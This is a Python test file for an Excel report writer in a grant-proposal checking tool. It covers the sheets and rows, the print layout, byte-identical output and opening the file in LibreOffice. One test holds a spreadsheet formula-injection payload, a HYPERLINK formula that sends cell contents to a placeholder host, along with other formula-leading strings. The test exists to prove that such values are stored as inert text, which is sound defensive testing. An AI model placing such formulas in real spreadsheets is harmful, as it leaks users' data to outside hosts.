"""The workbook for officers: a row for each proposal, nothing left out, and text that is never a formula."""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from click.testing import CliRunner
from python_calamine import CalamineWorkbook

from mpfcheck.checking.report import InputReference, LeadReference, PassedOver, ProposalReport
from mpfcheck.cli.main import mpfcheck
from mpfcheck.report.overview import Overview, RunSummary
from mpfcheck.report.say.portfolio import copies_in_words
from mpfcheck.report.words import NOT_ANSWERED
from mpfcheck.report.workbook import LONGEST_TEXT, WorkbookReporter
from tests.data import NAUGHTY_STRINGS
from tests.report.overviews import together
from tests.report.samples import EXCLUSION, GRANT, PERSON, report

ROOT = Path(__file__).resolve().parents[2]
OFFICE = shutil.which("soffice")
LEAD = LeadReference("Border Guard", "LV")
INPUT = InputReference("a.jsonl", 4, None, "Forged documents", "SAFE", LEAD, "380000.00", "400000.00", "BMVI")


def book(*reports: ProposalReport, overview: Overview | None = None) -> bytes:
    written: list[bytes] = []
    reporter = WorkbookReporter(written.append, version="1")
    for one in reports:
        reporter.add(one)
    reporter.finish(*([overview] if overview else []))
    return b"".join(written)


def sheet(data: bytes, name: str) -> list[list[object]]:
    return [list(row) for row in CalamineWorkbook.from_filelike(BytesIO(data)).get_sheet_by_name(name).to_python()]


def test_a_proposal_has_one_row_with_its_figures_as_numbers() -> None:
    data = book(report("ineligible", GRANT, PERSON, input=INPUT))
    head, row = sheet(data, "Proposals")
    of = dict(zip(head, row, strict=True))

    assert (of["Input"], of["Line"], of["Title"], of["Acronym"]) == ("a.jsonl", 4, "Forged documents", "SAFE")
    assert (of["Lead applicant"], of["Country"], of["Fund"]) == ("Border Guard", "LV", "BMVI")
    assert (of["Total (EUR)"], of["Grant (EUR)"], of["Share"]) == (400000.0, 380000.0, 0.95)
    assert (of["Verdict"], of["Findings"], of["Must change"]) == ("Not eligible", 2, 1)


def test_the_same_reports_are_the_same_file_whenever_it_is_written() -> None:
    made = zipfile.ZipFile(BytesIO(book()))
    assert b">2000-01-01T00:00:00Z</dcterms:created>" in made.read("docProps/core.xml")
    assert {part.date_time for part in made.infolist()} == {(1980, 1, 31, 0, 0, 0)}


def test_a_finding_has_one_row_with_what_to_do() -> None:
    head, *rows = sheet(book(report("ineligible", GRANT, EXCLUSION, input=INPUT)), "Findings")

    assert [dict(zip(head, row, strict=True))["Rule"] for row in rows] == [GRANT.rule, EXCLUSION.rule]
    assert rows[0][head.index("How to fix it")] == GRANT.fix


def test_the_rules_stand_beside_the_proposals() -> None:
    head, titles, first, second = sheet(book(report("ineligible", GRANT), report("eligible", PERSON)), "Rules")

    assert head[2:] == [GRANT.rule, PERSON.rule]
    assert titles[2:] == [GRANT.title, PERSON.title]
    assert (first[2], second[2]) == ("not met", "")


def test_what_looks_like_a_formula_is_text() -> None:
    evil = '=HYPERLINK("http://x.example/?"&A1,"y")'
    one = InputReference(evil, None, None, evil, "+1", LeadReference("@SUM(1)", "-1"), None, None, "=1")
    data = book(report("ineligible", GRANT, input=one))
    with zipfile.ZipFile(BytesIO(data)) as packed:
        xml = b"".join(packed.read(name) for name in packed.namelist() if name.startswith("xl/worksheets"))

    assert b"<f>" not in xml
    assert b"<hyperlink" not in xml
    assert sheet(data, "Proposals")[1][2] == evil


def test_no_text_breaks_the_workbook() -> None:
    inputs = [
        InputReference(text or "x", None, None, text, text, LeadReference(text, text)) for text in NAUGHTY_STRINGS
    ]
    data = book(*(report("ineligible", GRANT, input=one) for one in inputs))

    assert len(sheet(data, "Proposals")) == len(inputs) + 1
    long = book(report("ineligible", GRANT, input=InputReference("a", None, None, "x" * 100_000)))
    assert str(sheet(long, "Proposals")[1][2]).startswith("x" * LONGEST_TEXT)


def test_an_incomplete_run_says_so_and_names_what_was_passed_over() -> None:
    run = RunSummary(2, (PassedOver("b.json", "it cannot be read", True),), complete=False)
    about = [row[0] for row in sheet(book(report("ineligible", GRANT), overview=Overview(run=run)), "About")]

    assert any("This report is not complete." in str(line) for line in about)
    assert "b.json" in about


def test_copies_and_leads_without_a_country_are_said_as_in_the_text() -> None:
    """The countries count each proposal once, so the page says how many copies the verdicts above have."""
    nameless = [report("ineligible", GRANT, input=InputReference(f"{name}.json", None, "ab" * 32)) for name in "ab"]
    overview = Overview(together(nameless, {"title": "T"}))
    about = [row[0] for row in sheet(book(*nameless, overview=overview), "About")]

    assert f"{NOT_ANSWERED}: 1 proposal, 0 eligible, EUR 0.00 requested" in about
    assert copies_in_words(overview.portfolio) in about


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_the_command_line_writes_all_sheets(jobs: str, tmp_path: Path) -> None:
    place = tmp_path / "report.xlsx"
    command = ["check", str(ROOT / "examples"), "--format", "xlsx", "--output", str(place), "--jobs", jobs]
    CliRunner().invoke(mpfcheck, command)
    names = CalamineWorkbook.from_path(place).sheet_names

    assert names == ["Proposals", "Findings", "Envelopes", "Organisations", "Rules", "About"]
    rows = sheet(place.read_bytes(), "Proposals")
    assert "BMVI" in [row[rows[0].index("Fund")] for row in rows]
    envelopes = sheet(place.read_bytes(), "Envelopes")
    assert any("EUR 380 000.00 of EUR 3 900 000.00" in row for row in envelopes)


def test_every_sheet_can_be_printed_and_no_text_lies_over_the_next_row() -> None:
    """LibreOffice keeps the height of a row without one as it is, whatever its text."""
    long = InputReference("a.json", None, None, "many words " * 30)
    data = book(report("ineligible", GRANT, EXCLUSION, input=long), report("eligible", PERSON))
    with zipfile.ZipFile(BytesIO(data)) as packed:
        sheets = [packed.read(f"xl/worksheets/sheet{number}.xml").decode() for number in range(1, 5)]
        names = packed.read("xl/workbook.xml").decode()

    for sheet in sheets:
        setup = sheet.partition("<pageSetup ")[2].partition("/>")[0]
        assert 'orientation="landscape"' in setup
        assert 'fitToHeight="0"' in setup
        assert "<pageSetUpPr fitToPage=" in sheet
    assert [sheet.partition("<pane ")[2].partition(" topLeft")[0] for sheet in sheets[:3]] == [
        'xSplit="1" ySplit="1"',
        'xSplit="1" ySplit="1"',
        'xSplit="1" ySplit="2"',
    ]
    assert "Proposals!$A:$A,Proposals!$1:$1" in names
    assert "Rules!$A:$A,Rules!$1:$2" in names
    # 330 letters in a column of 40.
    assert 'ht="135"' in sheets[0].partition('<row r="2"')[2].partition(">")[0]


@pytest.mark.skipif(OFFICE is None, reason="there is no LibreOffice here")
def test_libreoffice_opens_it(tmp_path: Path) -> None:
    place = tmp_path / "report.xlsx"
    place.write_bytes(book(report("ineligible", GRANT, EXCLUSION, input=INPUT), report("eligible", PERSON)))
    command = [
        *(str(OFFICE), f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless"),
        *("--convert-to", "ods", "--outdir", str(tmp_path), str(place)),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=240)
    again = CalamineWorkbook.from_path(tmp_path / "report.ods")

    assert again.sheet_names == CalamineWorkbook.from_path(place).sheet_names
    assert again.get_sheet_by_name("Proposals").to_python()[1][:4] == ["a.jsonl", 4.0, "Forged documents", "SAFE"]
